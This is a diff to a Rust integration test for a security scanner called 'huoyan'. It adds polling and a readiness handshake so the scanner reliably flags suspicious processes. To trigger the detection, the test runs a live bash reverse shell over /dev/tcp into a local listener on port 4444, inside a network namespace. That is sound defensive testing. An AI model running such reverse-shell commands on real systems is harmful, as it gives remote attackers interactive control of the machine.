@@ -29,7 +29,8 @@ impl Drop for Cleanup {
     }
 }
 
-fn findings(check: &str) -> Vec<Value> {
+/// One `huoyan scan --only process --json`: the findings.
+fn scan() -> Vec<Value> {
     let out = Command::new(env!("CARGO_BIN_EXE_huoyan"))
         .args(["scan", "--only", "process", "--json"])
         .output()
@@ -37,7 +38,14 @@ fn findings(check: &str) -> Vec<Value> {
     String::from_utf8_lossy(&out.stdout)
         .lines()
         .map(|l| serde_json::from_str::<Value>(l).expect("valid JSON"))
-        .filter(|v| v["record"] == "finding" && v["check_id"] == check)
+        .filter(|v| v["record"] == "finding")
+        .collect()
+}
+
+fn of(all: &[Value], check: &str) -> Vec<Value> {
+    all.iter()
+        .filter(|v| v["check_id"] == check)
+        .cloned()
         .collect()
 }
 
@@ -97,14 +105,20 @@ fn live_processes_are_reported_with_their_pids() {
         .status()
         .expect("ip")
         .success());
-    let listener = Command::new("ip")
+    let mut listener = Command::new("ip")
         .args(["netns", "exec", &ns, "python3", "-c"])
-        .arg("import socket,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('127.0.0.1',4444))\ns.listen(1)\nc,_=s.accept()\ntime.sleep(300)")
-        .stdout(Stdio::null())
+        .arg("import socket,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('127.0.0.1',4444))\ns.listen(1)\nprint('ready',flush=True)\nc,_=s.accept()\ntime.sleep(300)")
+        .stdout(Stdio::piped())
         .spawn()
         .expect("start listener");
+    // Wait until it listens (python starts slowly on a loaded machine).
+    let mut ready = String::new();
+    if let Some(out) = listener.stdout.as_mut() {
+        use std::io::BufRead;
+        let _ = std::io::BufReader::new(out).read_line(&mut ready);
+    }
     cleanup.children.push(listener);
-    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(ready.trim(), "ready", "listener did not start");
     let shell = Command::new("ip")
         .args(["netns", "exec", &ns, "bash", "-c"])
         .arg("exec 3<>/dev/tcp/127.0.0.1/4444; exec bash -i <&3 >&3 2>&3")
@@ -117,22 +131,36 @@ fn live_processes_are_reported_with_their_pids() {
     cleanup.children.push(shell);
     std::thread::sleep(Duration::from_millis(700));
 
-    let deleted_findings = findings("process.deleted_exe");
+    // Under load the shell may take a moment to connect: poll (bounded) until all four appear.
+    let deadline = std::time::Instant::now() + Duration::from_secs(60);
+    let (mut deleted_findings, mut writable, mut fakes, mut shells);
+    loop {
+        let all = scan();
+        deleted_findings = of(&all, "process.deleted_exe");
+        writable = of(&all, "process.writable_exe");
+        fakes = of(&all, "process.fake_kthread");
+        shells = of(&all, "process.socket_stdio");
+        let all = has_pid(&deleted_findings, deleted_pid)
+            && has_pid(&writable, deleted_pid)
+            && has_pid(&fakes, fake_pid)
+            && has_pid(&shells, shell_pid);
+        if all || std::time::Instant::now() > deadline {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    }
     assert!(
         has_pid(&deleted_findings, deleted_pid),
         "deleted exe pid {deleted_pid}: {deleted_findings:#?}"
     );
-    let writable = findings("process.writable_exe");
     assert!(
         has_pid(&writable, deleted_pid),
         "/dev/shm exe pid {deleted_pid}: {writable:#?}"
     );
-    let fakes = findings("process.fake_kthread");
     assert!(
         has_pid(&fakes, fake_pid),
         "fake kworker pid {fake_pid}: {fakes:#?}"
     );
-    let shells = findings("process.socket_stdio");
     assert!(
         has_pid(&shells, shell_pid),
         "reverse shell pid {shell_pid}: {shells:#?}"
